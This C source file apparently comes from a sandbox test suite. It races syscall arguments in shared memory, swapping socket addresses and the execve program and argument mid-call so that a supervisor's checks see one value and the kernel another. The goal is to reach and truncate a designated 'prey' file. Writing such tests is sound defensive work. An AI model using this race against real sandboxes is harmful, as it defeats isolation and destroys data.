/* Other memory that changes while a call is on its way: the address and the message of a socket call, the program and the arguments of an exec. */
#include "attack.h"

#include <pthread.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>

static volatile int stop;
static struct sockaddr_un own, theirs, *shared;
static socklen_t size;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop) {
		memcpy(shared, &theirs, sizeof own);
		__asm__ volatile("" ::: "memory");
		memcpy(shared, &own, sizeof own);
		__asm__ volatile("" ::: "memory");
	}
	return NULL;
}

/* Both names padded to one length with slashes. */
static void set_names(const char *dir, const char *name)
{
	memset(&own, 0, sizeof own);
	own.sun_family = AF_UNIX;
	theirs = own;
	snprintf(theirs.sun_path, sizeof theirs.sun_path, "%s/%s", attack_prey, name);
	size_t want = strlen(theirs.sun_path);
	snprintf(own.sun_path, sizeof own.sun_path, "%s", dir);
	while (strlen(own.sun_path) + strlen(name) < want && strlen(own.sun_path) < sizeof own.sun_path - 20)
		strcat(own.sun_path, "/");
	strncat(own.sun_path, name, sizeof own.sun_path - strlen(own.sun_path) - 1);
	size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + want + 1);
}

static void to_socket(int how)
{
	int stream = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0), dgram = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
	struct iovec one = { "attack", 6 };
	struct mmsghdr m = { .msg_hdr = { .msg_name = shared, .msg_namelen = size, .msg_iov = &one, .msg_iovlen = 1 } };

	switch (how) {
	case 0:
		if (TRY(connect(stream, (void *)shared, size)) == 0)
			TRY(write(stream, "attack", 6));
		break;
	case 1: TRY(connect(dgram, (void *)shared, size)); TRY(write(dgram, "attack", 6)); break;
	case 2: TRY(sendto(dgram, "attack", 6, 0, (void *)shared, size)); break;
	case 3: TRY(sendmsg(dgram, &m.msg_hdr, 0)); break;
	case 4: TRY(sendmmsg(dgram, &m, 1, 0)); break;
	default: TRY(bind(stream, (void *)shared, size)); unlink(own.sun_path);
	}
	close(stream);
	close(dgram);
}

static void sockets(const char *dir, double seconds)
{
	pthread_t t;

	for (int how = 0; how < 6; how++) {
		int mine = socket(AF_UNIX, (how == 0 ? SOCK_STREAM : SOCK_DGRAM) | SOCK_NONBLOCK, 0);

		set_names(dir, how == 0 ? "socket" : how == 5 ? "bound" : "datagrams");
		if (how != 5 && bind(mine, (void *)&own, size) == 0 && how == 0)
			listen(mine, 100);
		memcpy(shared, &own, sizeof own);
		stop = 0;
		pthread_create(&t, NULL, flip, NULL);
		for (double end = attack_now() + seconds / 6; attack_now() < end;) {
			char buf[16];

			to_socket(how);
			if (how == 0) {
				close(accept4(mine, NULL, NULL, SOCK_NONBLOCK | SOCK_CLOEXEC));
			} else {
				(void)!recv(mine, buf, sizeof buf, MSG_DONTWAIT);
			}
		}
		stop = 1;
		pthread_join(t, NULL);
		close(mine);
		unlink(own.sun_path);
	}
}

/* ---- exec ---- */

static char *program, *argument;

static void *flip_exec(void *arg)
{
	static const char *const programs[2] = { "/bin/true\0\0\0\0\0\0\0", "/usr/bin/truncate" };

	(void)arg;
	for (unsigned i = 0;; i++) {
		memcpy(program, programs[i & 1], 18);
		__asm__ volatile("" ::: "memory");
	}
	return NULL;
}

static void *flip_argument(void *arg)
{
	char to[2][600] = { "", "" };

	(void)arg;
	/* What is half the one and half the other must not be something of somebody else's. */
	snprintf(to[0], sizeof to[0], "%s/../nothing-there", attack_prey);
	snprintf(to[1], sizeof to[1], "%s", prey("file"));
	for (unsigned i = 0;; i++) {
		memcpy(argument, to[i & 1], sizeof to[0]);
		__asm__ volatile("" ::: "memory");
	}
	return NULL;
}

static void *exec_thread(void *arg)
{
	char *args[] = { "truncate", "-s", "0", argument, NULL }, *env[] = { NULL };

	(void)arg;
	execve(program, args, env);
	return NULL;
}

static void exec_raced(void *arg)
{
	pthread_t t;

	pthread_create(&t, NULL, flip_exec, NULL);
	pthread_create(&t, NULL, flip_argument, NULL);
	usleep(500);
	if (arg) {
		pthread_create(&t, NULL, exec_thread, NULL);
		pthread_join(t, NULL);
	} else {
		exec_thread(NULL);
	}
}

int main(int argc, char **argv)
{
	char dir[] = "/tmp/a.XXXXXX";

	attack_begin(argc, argv);
	shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	program = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	argument = program + 4096;
	strcpy(program, "/bin/true");
	snprintf(argument, 600, "%s/../nothing-there", attack_prey);
	if (!mkdtemp(dir))
		return 1;
	sockets(dir, attack_seconds / 2);
	for (double end = attack_now() + attack_seconds / 2; attack_now() < end;) {
		attack_child(exec_raced, NULL, 2);
		attack_child(exec_raced, dir, 2);
	}
	rmdir(dir);
	return attack_end();
}
